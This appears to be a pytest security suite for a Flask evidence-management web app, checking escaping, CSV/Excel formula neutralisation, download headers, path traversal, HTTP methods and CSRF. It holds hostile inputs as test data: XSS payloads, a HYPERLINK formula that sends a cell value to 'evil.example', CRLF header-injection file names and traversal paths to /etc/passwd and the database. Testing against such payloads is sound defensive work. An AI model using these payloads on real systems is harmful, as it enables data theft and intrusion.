"""The web's usual attacks, tried: hostile words in everything that has a name, file names, paths, methods."""

import csv
import io
from collections.abc import Iterator
from dataclasses import replace

import openpyxl
import pytest
from cli_runner import Muster
from flask import Flask
from web.client import Client
from web.page import audit, audit_fragment, parse
from web.papers import Papers, add_papers, notice, report
from web.walking import address, routes

from evidence.model import LinkStatus, Reading
from evidence.people.account import Role
from evidence.services import Services, open_services
from evidence.settings import Settings
from evidence.store import documents
from evidence.store.deciding import decide
from evidence.store.ledger import keep_file
from webapp import create_app

SCRIPT = "\"'><img src=x class=stolen onerror=alert(1)><script>alert(1)</script></title></textarea>{{7*7}}"
FORMULA = '=HYPERLINK("https://evil.example?"&A1,"Open")'
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _with(reading: Reading, words: str) -> Reading:
    """A paper whose title, passages, findings and measures all begin with these words."""
    passages = tuple(replace(p, text=f"{words} {p.text}", heading_path=(words,)) for p in reading.passages)
    fields = tuple(replace(f, value=words) if f.name in ("title", "author") else f for f in reading.fields)
    changed = replace(
        reading,
        passages=passages,
        fields=fields,
        findings=tuple(replace(f, text=words, area=words) for f in reading.findings),
        warnings=(words,),
        source=replace(reading.source, name=words) if reading.source else None,
    )
    if reading.register is None:
        return changed
    measures = tuple(replace(m, text=f"{words} {m.text}", theme=words) for m in reading.register.measures)
    return replace(changed, register=replace(reading.register, title=words, measures=measures))


def hostile(services: Services, words: str) -> Papers:
    """The usual two papers, and two in which every word that can be is hostile."""
    papers = add_papers(services)
    for number, reading in enumerate((notice(), report())):
        sha256, size = services.files.put_bytes(b"<script>alert(1)</script>%d" % number)
        with services.record.transaction():
            keep_file(
                services.record,
                sha256=sha256,
                size=size,
                media_type="text/html",
                name=f"{words}{number}.html",
            )
        documents.add_readings(services.record, sha256, [_with(reading, words)])
    for link in (papers.met, papers.late):
        decide(services.record, [link], LinkStatus.ACCEPTED, note=words)
    return papers


@pytest.fixture(params=[SCRIPT, FORMULA], ids=["script", "formula"])
def words(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
def attacked(app: Flask, settings: Settings, words: str) -> tuple[Client, Papers]:
    with open_services(settings, actor=words) as services:
        papers = hostile(services, words)
    muster = Muster(settings.home)
    when = ("--announced", "2026-11-30", "--cutoff", "2026-11-30", "--starts", "2026-12-07")
    for command in (
        ("inspection", "new", words, "--timetable", "ilacs-standard", *when),
        ("inspection", "request", words, words, "--due", "2026-12-08 14:00"),
        ("pack", "new", words, "--inspection", words, "--title", words),
        ("pack", "add", words, "--section", words, "--note", words),
        ("pack", "add", words, "--measure", "N2010-01"),
        ("saved", "add", words, "assessments", "--shared"),
        ("people", "add", "Jo Marsh", "--role", "officer", "--shown", words[:50]),
    ):
        ran = muster(*command)
        assert ran.code == 0, (command, ran.err)
    client = Client(app).sign_in(Role.COORDINATOR, words)
    return client, papers


def opened(app: Flask, client: Client, papers: Papers) -> Iterator[tuple[str, str, bytes]]:
    """Every address that answers to a coordinator: itself, its media type, its bytes."""
    for rule, method in routes(app):
        if method != "GET" or rule.endpoint.startswith("sign_in."):
            continue
        numbers = range(1, 5) if any("number" in a for a in rule.arguments) else (1,)
        for number in numbers:
            path = address(app, rule, papers).replace("/1", f"/{number}", 1)
            with client.http.get(path) as answer:
                if answer.status_code == 200:
                    yield path, answer.mimetype, answer.data


def test_hostile_words_are_shown_as_words_on_every_page(
    app: Flask, attacked: tuple[Client, Papers], words: str
):
    client, papers = attacked
    seen = 0
    for path, kind, data in opened(app, client, papers):
        if kind != "text/html":
            continue
        text = data.decode()
        whole = text.lstrip().lower().startswith("<!doctype")
        page = parse(text, whole=whole)
        (audit if whole else audit_fragment)(page)  # no script, no style, no handler of an event
        assert not page.all("img", class_="stolen"), path
        assert "49</title>" not in text and "alert(1)</script>" not in text, path
        seen += words in page.text or words in page.html
    assert seen >= 5


def test_no_table_that_leaves_holds_a_formula(app: Flask, attacked: tuple[Client, Papers], words: str):
    client, papers = attacked
    tables = 0
    for path, kind, data in opened(app, client, papers):
        if kind == "text/csv":
            rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
            cells = [cell for row in rows for cell in row]
        elif "spreadsheetml" in kind:
            book = openpyxl.load_workbook(io.BytesIO(data))
            kinds = {c.data_type for sheet in book for row in sheet.iter_rows() for c in row}
            assert "f" not in kinds, path
            cells = []
        else:
            continue
        tables += 1
        assert not [c for c in cells if c.startswith(STARTS) and not c[1:2].isdigit()], path
    assert tables >= 6


NAMES = [
    'a"\r\nSet-Cookie: stolen=1\r\n\r\n<script>.html',
    "résumé; filename=other.exe",
    "\u202egnp.exe",
    "../../etc/passwd",
    "",
]


@pytest.mark.parametrize("name", NAMES)
def test_a_files_name_adds_no_header_and_no_type_to_its_download(
    app: Flask, settings: Settings, papers: Papers, name: str
):
    with open_services(settings, actor="tester") as services:
        sha256, size = services.files.put_bytes(b"<html><script>alert(1)</script>")
        with services.record.transaction():
            keep_file(services.record, sha256=sha256, size=size, media_type="text/html", name=name)
        documents.add_readings(services.record, sha256, [report()])
    with Client(app).sign_in().http.get(f"/files/{sha256}") as answer:
        assert answer.status_code == 200
        said = answer.headers.getlist("Content-Disposition")
        assert len(said) == 1 and said[0].startswith("attachment") and not set(said[0]) & set("\r\n")
        assert "stolen=" not in str(answer.headers.getlist("Set-Cookie"))
        assert answer.mimetype == "application/octet-stream"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(
    "path",
    [
        "/files/../muster.db",
        "/files/..%2f..%2fmuster.db",
        "/files/%2e%2e%2fsecret",
        "/static/../../config.toml",
        "/static/..%2f..%2fpyproject.toml",
        "/static/%2fetc/passwd",
        "/static//etc/passwd",
        "/help/..%2f..%2fetc%2fpasswd",
        "/measures/..%2f..%2fsecret",
        "/packs/1/issues/../../../muster.db",
        "/documents/1/pages/../../../secret",
    ],
)
def test_no_path_leads_out_of_where_it_should(client: Client, papers: Papers, settings: Settings, path: str):
    with client.http.get(path) as answer:
        assert answer.status_code in (302, 308, 404), path
        assert settings.home.joinpath("secret").read_bytes() not in answer.data
        assert b"SQLite format" not in answer.data and b"root:" not in answer.data


@pytest.mark.parametrize("method", ["TRACE", "CONNECT", "PUT", "DELETE", "PATCH", "BREW"])
def test_other_methods_are_refused_with_the_usual_headers(client: Client, method: str):
    answer = client.http.open("/search", method=method)
    assert answer.status_code in (400, 405)
    assert "default-src 'self'" in answer.headers["Content-Security-Policy"]


def test_every_answer_has_owasps_headers_errors_among_them(app: Flask, client: Client, papers: Papers):
    for rule, method in routes(app):
        if method != "GET":
            continue
        with client.http.get(address(app, rule, papers)) as answer:
            headers = answer.headers
            assert headers["X-Content-Type-Options"] == "nosniff", rule
            assert headers["X-Frame-Options"] == "DENY", rule
            assert "camera=()" in headers["Permissions-Policy"], rule
            assert headers["Cross-Origin-Opener-Policy"] == "same-origin", rule
            policy = headers["Content-Security-Policy"]
            assert "default-src 'self'" in policy and "object-src 'none'" in policy, rule
            assert "unsafe" not in policy and "*" not in policy and "data:" not in policy, rule
            assert "Server" not in headers and "X-Powered-By" not in headers, rule
            assert "Access-Control-Allow-Origin" not in headers, rule
            if rule.endpoint != "static":
                assert headers["Cache-Control"] == "no-store", rule


def test_no_document_is_ever_sent_as_a_page(app: Flask, settings: Settings):
    with open_services(settings, actor="tester") as services:
        papers = hostile(services, SCRIPT)
    client = Client(app).sign_in()
    for path, kind, data in opened(app, client, papers):
        assert kind not in ("application/xhtml+xml", "text/xml", "application/xml"), path
        if kind == "image/svg+xml":
            assert b"<script" not in data and b"onerror" not in data.replace(b"&lt;img", b""), path
        if b"<script>alert(1)</script>" in data:
            assert kind == "application/octet-stream" or kind.endswith(("zip", "csv", "pdf")), path


@pytest.mark.parametrize("size", ["large", "100000", "-1", "huge", "1e9"])
def test_a_pages_picture_is_of_two_sizes_whatever_is_asked(own_sample_base, size: str, settings: Settings):
    from PIL import Image

    from evidence.pages.pictures import LARGE, WIDTH
    from evidence.settings import load

    app = create_app(load(home=own_sample_base.home))
    client = Client(app).sign_in()
    paged = next(
        d for d in own_sample_base("documents", "--json").data if d["pages"] and d["file"].endswith("pdf")
    )
    answer = client.http.get(f"/documents/{paged['id']}/pages/1.png?size={size}")
    assert answer.status_code == 200
    assert Image.open(io.BytesIO(answer.data)).width in (WIDTH, LARGE)


@pytest.mark.parametrize("path", ["/sign-in", "/saved", "/packs", "/account/password"])
def test_a_form_of_more_than_a_megabyte_is_refused(client: Client, path: str):
    answer = client.http.post(path, data={"csrf_token": "x", "name": "x" * (2 << 20)})
    assert answer.status_code == 413


def test_a_stolen_form_token_is_worth_nothing_in_another_session(app: Flask, papers: Papers):
    thief, victim = Client(app).sign_in(name="Mallory"), Client(app).sign_in(name="Sam Ellery")
    data = {"csrf_token": thief.csrf(), "status": "accepted"}
    assert victim.http.post(f"/links/{papers.met}", data=data).status_code == 400
